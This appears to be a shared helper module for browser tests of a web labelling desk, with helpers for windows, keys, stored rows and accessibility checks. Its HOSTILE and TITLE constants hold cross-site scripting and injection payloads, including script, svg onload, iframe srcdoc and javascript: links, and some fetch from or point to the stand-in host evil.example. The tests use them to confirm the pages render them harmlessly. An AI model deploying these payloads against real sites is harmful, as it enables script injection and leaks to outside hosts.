"""What the browser tests share: a server, windows that notice what goes wrong in them, and the desk's keys."""

import json
import os
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from curate.web.desk import PipelineDesk

TOKEN = "a-token-nobody-guesses"
PHONE = {"width": 360, "height": 780}
BIDI = "\u202eright to left\u202c \u2066isolated\u2069"
HOSTILE = f"""<script>document.title = 'owned'; fetch('https://evil.example/')</script>
<svg onload="document.title='owned'"><image href="https://evil.example/i.png"/></svg>
<style>* {{ display: none }} body {{ background: url(https://evil.example/b.png) }}</style>
<form action="https://evil.example/"><button autofocus onfocus="document.title='owned'">send</button></form>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/s.css">
<iframe srcdoc="<script>parent.document.title='owned'</script>"></iframe>
<a href="javascript:document.title='owned'">click</a> </textarea></title></div></main> {{{{ 7 * 7 }}}}
{BIDI}
"""
TITLE = "</title><script>document.title = 'owned'</script>" + BIDI
WAIT_MS = 10_000
LOOK_MS = 300
"""How long a page must be on screen before a key counts, and a little more."""
SHOTS = os.environ.get("CURATE_SHOTS", "")
"""A folder for pictures of what the tests see, to be looked at."""


@dataclass
class Server:
    """An application that listens."""

    origin: str
    stop: Callable[[], None]

    @property
    def link(self) -> str:
        """What the command would print."""
        return f"{self.origin}/?token={TOKEN}"


@dataclass
class Visits:
    """The windows of one test, each with cookies of its own, and all that went wrong in them."""

    browser: Any
    windows: list[Any] = field(default_factory=list)
    odd: list[str] = field(default_factory=list)
    expected: list[str] = field(default_factory=list)
    """Parts of the messages that a test provokes on purpose."""

    def __call__(self, link: str, **given: Any) -> Any:
        """Open a link in a new window; gives its page."""
        window = self.browser.new_context(**{"viewport": {"width": 1280, "height": 900}, **given})
        window.set_default_timeout(WAIT_MS)
        self.windows.append(window)
        origin = "/".join(link.split("/")[:3])
        page = window.new_page()
        page.on("request", lambda request: self._asked(request, origin))
        page.on("console", self._said)
        page.on("pageerror", lambda error: self.odd.append(f"error: {error}"))
        page.on("dialog", self._dialog)
        window.on("page", lambda other: self.odd.append(f"window: {other.url}") if other is not page else None)
        page.goto(link)
        return page

    def _asked(self, request: Any, origin: str) -> None:
        if not request.url.startswith(f"{origin}/"):
            self.odd.append(f"request: {request.method} {request.url}")

    def _said(self, message: Any) -> None:
        if message.type in ("error", "warning"):
            self.odd.append(f"console: {message.text} ({message.location.get('url', '')})")

    def _dialog(self, dialog: Any) -> None:
        self.odd.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def close(self) -> None:
        """Close all windows. Raises AssertionError when one was not quiet."""
        for window in self.windows:
            window.close()
        odd = [words for words in self.odd if not any(part in words for part in self.expected)]
        assert not odd, odd


def faults(page: Any, axe_script: str, *, only: str = "") -> list[str]:
    """What axe-core finds serious or critical, of one rule where `only` names it. It runs in a world of its own, so that the
    page's policy, which forbids foreign scripts, stays as it is."""
    session = page.context.new_cdp_session(page)
    frame = session.send("Page.getFrameTree")["frameTree"]["frame"]["id"]
    world = session.send("Page.createIsolatedWorld", {"frameId": frame, "worldName": "axe"})["executionContextId"]
    known = session.send("Runtime.evaluate", {"expression": "typeof axe", "contextId": world})["result"]["value"]
    if known == "undefined":
        session.send("Runtime.evaluate", {"expression": axe_script, "contextId": world})
    options = {"resultTypes": ["violations"], **({"runOnly": [only]} if only else {})}
    run = f"axe.run(document, {json.dumps(options)}).then((found) => found.violations)"
    asked = {"expression": run, "contextId": world, "awaitPromise": True, "returnByValue": True}
    answer = session.send("Runtime.evaluate", asked)
    session.detach()
    return [
        f"{one['id']}: {one['help']}: {'; '.join(node['html'][:120] for node in one['nodes'][:3])}"
        for one in answer["result"]["value"]
        if one["impact"] in ("serious", "critical")
    ]


def fits(page: Any) -> bool:
    """Whether nothing sticks out sideways."""
    return bool(page.evaluate("document.documentElement.scrollWidth <= innerWidth"))


def picture(page: Any, name: str) -> None:
    """Into CURATE_SHOTS, where that is set."""
    if SHOTS:
        for scheme in "light", "dark":
            page.emulate_media(color_scheme=scheme)
            page.screenshot(path=f"{SHOTS}/{name}-{scheme}.png")
        page.emulate_media(color_scheme="light")


def shown(page: Any) -> str:
    """The text on the desk, once there is one and keys count for it."""
    page.wait_for_selector("#page[aria-busy=false]")
    page.wait_for_timeout(LOOK_MS)
    return str(page.inner_text("#text"))


def press(page: Any, keys: str) -> None:
    """Keys one after the other, the first once the page has been seen."""
    shown(page)
    for key in keys.split():
        page.keyboard.press(key)


def label(page: Any, keys: str) -> str:
    """Answer the page on the desk, wait until another is there, and give the text that was answered."""
    text = shown(page)
    for key in keys.split():
        page.keyboard.press(key)
    page.wait_for_function("before => document.querySelector('#text').textContent !== before", arg=text)
    return text


def rows(desk: PipelineDesk) -> list[dict[str, Any]]:
    """What is stored, in the order it was given."""
    return sorted(desk.store.rows("labels"), key=lambda row: str(row["at"]))


def texts(desk: PipelineDesk) -> dict[str, str]:
    """Page id to text."""
    return {page["page_id"]: page["text"] for page in desk._pages.values()}


def wait_for_rows(page: Any, desk: PipelineDesk, n: int) -> list[dict[str, Any]]:
    """The rows once there are n. Raises AssertionError when they do not come."""
    for _ in range(WAIT_MS // 50):
        if len(found := rows(desk)) >= n:
            return found
        page.wait_for_timeout(50)
    raise AssertionError(f"{len(rows(desk))} labels are stored, {n} were given")


def says(page: Any, words: str) -> None:
    """Wait until the desk says something. Raises playwright's TimeoutError where it does not."""
    page.wait_for_function("words => document.querySelector('#said').textContent === words", arg=words)


def unharmed(page: Any, server: Server, path: str) -> None:
    """Hold a page that shows hostile text to be where it was, as it was. Raises AssertionError where it is not."""
    assert page.url == f"{server.origin}{path}"
    assert not page.title().startswith("owned")
    assert (
        page.locator(
            "main script, svg, iframe, base, main style, main form:not(.filter), main img, meta[http-equiv]"
        ).count()
        == 0
    )
    leads = "[...document.querySelectorAll('[href], [src], [action]')].map((one) => one.href || one.src || one.action)"
    assert all(link.startswith(f"{server.origin}/") for link in page.evaluate(leads))
    assert page.evaluate("getComputedStyle(document.querySelector('h1')).display") != "none"
